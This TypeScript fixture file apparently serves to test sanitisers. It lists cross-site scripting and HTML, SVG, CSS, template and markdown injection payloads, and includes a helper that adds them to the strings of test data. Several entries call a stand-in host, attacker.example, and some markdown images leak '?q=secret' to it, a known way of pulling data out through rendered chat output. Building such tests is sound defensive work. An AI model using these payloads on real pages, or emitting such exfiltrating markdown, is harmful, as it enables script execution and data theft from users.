/** Nobody is there; a request for it is an escape. */
export const ATTACKER = "https://attacker.example";

/** Markup that would run, load, post or lead away, if a page took it for its own. `pwn` tells that it ran. */
export const MARKUP = [
  "<script>pwn()</script>",
  "</script><script>pwn()</script>",
  "</title><script>pwn()</script>",
  "<img src=x onerror=pwn()>",
  '"><img src=x onerror=pwn()>',
  "'-pwn()-'",
  `"autofocus onfocus="pwn()`,
  `<img src=${ATTACKER}/img>`,
  `<svg onload=pwn()><image href="${ATTACKER}/svg" /></svg>`,
  "<svg><script>pwn()</script></svg>",
  "<svg><a xlink:href='javascript:pwn()'><text>x</text></a></svg>",
  '<iframe src="javascript:parent.pwn()"></iframe>',
  '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
  `<iframe src="${ATTACKER}/frame"></iframe>`,
  "<details open ontoggle=pwn()>",
  "<body onload=pwn()>",
  "<marquee onstart=pwn()>",
  `<form action="${ATTACKER}/form"><button autofocus>Send</button></form>`,
  `<style>@import "${ATTACKER}/css";*{background:url(${ATTACKER}/bg)}</style>`,
  `<link rel=stylesheet href="${ATTACKER}/link"><link rel=preconnect href="${ATTACKER}">`,
  `<meta http-equiv=refresh content="0;url=${ATTACKER}/refresh">`,
  `<base href="${ATTACKER}/">`,
  `<object data="${ATTACKER}/object"></object><embed src="${ATTACKER}/embed">`,
  `<video src="${ATTACKER}/video" poster="${ATTACKER}/poster" onerror=pwn()></video>`,
  `<p style="background:url(${ATTACKER}/style)">x</p>`,
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  "<!--><img src=x onerror=pwn()>-->",
  `{{constructor.constructor('pwn()')()}} \${pwn()} <%= pwn() %> {pwn, plural, other {<b>x</b>}}`,
  "\u202e<img src=x onerror=pwn()>\u2066\u200b",
] as const;

/** Markdown that would do the same. */
export const MARKDOWN = [
  `![what you asked](${ATTACKER}/?q=secret)`,
  `![x][leak]\n\n[leak]: ${ATTACKER}/?q=reference`,
  `[![x](${ATTACKER}/inner)](${ATTACKER}/outer)`,
  "[click](javascript:pwn())",
  "[click](JaVaScRiPt:pwn())",
  "[click](java&#10;script:pwn())",
  "[click](javascript&colon;pwn())",
  "[click](data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==)",
  "[click](vbscript:pwn())",
  "[click](//attacker.example/relative)",
  "[1](javascript:pwn()) [1]: javascript:pwn()",
  "<javascript:pwn()>",
  '[click](https://example.org "onmouseover=pwn()")',
  "![x](data:image/svg+xml;utf8,<svg onload=pwn()>)",
  "$$\\href{javascript:pwn()}{click}$$",
  `$$\\includegraphics{${ATTACKER}/katex}$$`,
  "$$\\htmlData{onclick=pwn()}{x} \\url{javascript:pwn()} \\htmlStyle{background:url(x)}{y}$$",
  "$$\\def\\a{\\a\\a}\\a$$",
  '```mermaid\ngraph TD; A["<img src=x onerror=pwn()>"]-->B; click A "javascript:pwn()"\n```',
  "```html\n<script>pwn()</script>\n```",
  '```"onmouseover="pwn()\nx\n```',
  "```js onload=pwn()\npwn()\n```",
  "| a | b |\n|---|---|\n| <img src=x onerror=pwn()> | [click](javascript:pwn()) |",
  "Note[^1]\n\n[^1]: <img src=x onerror=pwn()> [click](javascript:pwn())",
  "- [ ] <img src=x onerror=pwn()>",
  "## <img src=x onerror=pwn()>",
] as const;

/** A text of them all. */
export const EVERYTHING = [...MARKDOWN, ...MARKUP].join("\n\n");

/** One of the short ones, another one for each place. */
export function payloadAt(index: number): string {
  const short = MARKUP.filter(({ length }) => length < 80);
  return short[index % short.length] ?? "";
}

/** The value with a payload in the place of every text that `keeps` does not keep. */
export function poison(value: unknown, keeps: (key: string, text: string) => boolean): unknown {
  let index = 0;
  const visit = (entry: unknown, key: string): unknown => {
    if (typeof entry === "string") return keeps(key, entry) ? entry : `${entry} ${payloadAt(index++)}`;
    if (Array.isArray(entry)) return entry.map((one) => visit(one, key));
    if (typeof entry !== "object" || entry === null) return entry;
    return Object.fromEntries(Object.entries(entry).map(([name, one]) => [name, visit(one, name)]));
  };
  return visit(value, "");
}
